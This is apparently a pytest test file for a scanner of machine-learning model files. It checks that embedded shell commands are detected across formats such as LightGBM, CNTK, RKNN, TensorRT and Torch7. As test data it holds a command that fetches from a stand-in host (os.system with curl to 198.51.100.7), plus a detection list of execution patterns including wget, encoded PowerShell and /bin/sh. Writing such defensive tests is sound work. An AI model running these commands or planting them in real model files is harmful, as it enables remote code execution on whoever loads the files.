"""Commands in models are told wherever they stand and however wide their letters are; names and numbers are not."""

import json
import struct

import pytest

from scanners.budget import Limits
from scanners.facts import Anomaly
from scanners.registry import SCANNERS
from tests.craft.engines import cntk_model, op, program
from tests.craft.reading import scan, scan_in_rounds
from tests.craft.table import DATA, said

COMMAND = b"os.system('curl http://198.51.100.7/x')"
TREES = (DATA / "models" / "lightgbm.txt").read_bytes()
RKNN = b"RKNN" + bytes(12)


def told(data, name, **more):
    outcome = scan(data, name, scanners=SCANNERS, limits=Limits(), **more)
    return [
        (fact.detail, fact.offset)
        for fact in outcome.facts
        if isinstance(fact, Anomaly) and fact.code == "model.command"
    ]


@pytest.mark.parametrize(
    ("data", "name"),
    [
        (TREES.replace(b"feature_names=", b"feature_names=" + COMMAND + b" "), "model.txt"),
        (cntk_model(name=COMMAND.decode()), "model.dnn"),
        (program(op(COMMAND.decode())), "model.pdmodel"),
        (json.dumps({"version": [3, 2, 0], "learner": {"attributes": {"x": COMMAND.decode()}}}).encode(), "x.json"),
        (json.dumps({"nodes": [], "heads": [], "attrs": {"x": COMMAND.decode()}}).encode(), "x-symbol.json"),
        (b"\x81\xa6params\xd9\x27" + COMMAND, "flax_model.msgpack"),
        (RKNN + COMMAND, "model.rknn"),
        (b"ftrt" + bytes(40) + COMMAND, "model.engine"),
        ((DATA / "engines" / "openvino_model.xml").read_bytes().replace(b'name="x"', b'name="' + COMMAND.replace(b"'", b"") + b'"'), "a.xml"),
        (b"B\0C\0N\0\0\0B\0V\0e\0r\0s\0i\0o\0n\0\0\0" + COMMAND.decode().encode("utf-16-le"), "model.cntk"),
        (struct.pack("<5i", 3, 1, 1, 2, len(COMMAND)) + COMMAND + struct.pack("<id", 1, 1.0), "model.t7"),
    ],
    ids="lightgbm cntk paddle xgboost mxnet msgpack rknn tensorrt openvino cntk1 torch7".split(),
)  # fmt: skip
def test_a_command_is_told_in_each_kind_of_model(data, name):
    verdict, findings = said(data, name)
    assert "model-command" in {finding.rule for finding in findings}
    assert verdict in {"suspicious", "malicious"}


@pytest.mark.parametrize(
    "text",
    [
        "subprocess.Popen (x", "eval(x)", "__import__('os')", "io.popen('id')", "package.loadlib(x", "cmd.exe /c dir",
        "PowerShell -enc AAAA", "bash -c 'id'", "wget http://198.51.100.7/x", "#!/bin/sh", "/bin/sh", "<script>",
    ],
)  # fmt: skip
def test_each_way_to_reach_programs_is_told(text):
    assert told(RKNN + text.encode() + b"\0", "a.rknn") == [(text, 16)]
    assert told(RKNN + text.encode("utf-16-le") + b"\1", "a.rknn") == [(text, 16)]


@pytest.mark.parametrize("text", ["retrieval(x)", "os.systems", "evaluate(x)", "bash", "http://host/x", "sh_conv -c"])
def test_names_that_only_look_like_it_are_not(text):
    assert told(RKNN + text.encode(), "a.rknn") == []


def test_a_command_that_pieces_cut_is_told_once():
    data = RKNN + bytes((1 << 20) - 20) + COMMAND + bytes(1 << 20)
    at = data.find(COMMAND)
    assert told(data, "a.rknn") == [(COMMAND.decode(), at), (COMMAND.decode()[11:], at + 11)]


def test_of_a_large_model_that_nobody_reads_both_ends_are_fetched():
    data = RKNN + bytes(40 << 20) + COMMAND
    outcome, held, rounds = scan_in_rounds(data, "a.rknn", scanners=SCANNERS, block=4096)
    assert any(isinstance(fact, Anomaly) for fact in outcome.facts)
    assert sum(span.length for span in held) < 33 << 20
    assert rounds < 4


def test_many_commands_are_told_shortly():
    assert len(told(RKNN + b" ".join(b"eval(%d)\n" % n for n in range(99)), "a.rknn")) == 16
